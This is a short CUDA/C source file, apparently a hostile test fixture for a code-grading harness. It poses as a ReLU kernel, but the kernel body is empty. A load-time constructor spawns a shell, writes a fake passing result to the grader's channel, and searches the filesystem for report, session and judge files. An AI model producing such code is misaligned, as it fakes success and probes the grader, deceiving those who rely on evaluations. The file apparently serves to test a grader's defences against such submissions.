// Hostile: the process becomes a shell, which looks for the grader.
#include <unistd.h>

#include "common/relu.h"

__attribute__((constructor)) void become() {
  execl("/bin/sh", "sh", "-c",
        "echo '{\"whole\": true}' >&3; find / -name 'report*' -o -name "
        "session.json -o -name '*.judge' 2>/dev/null; exit 0",
        nullptr);
}

void relu(const float*, float*, int64_t, cudaStream_t) {}
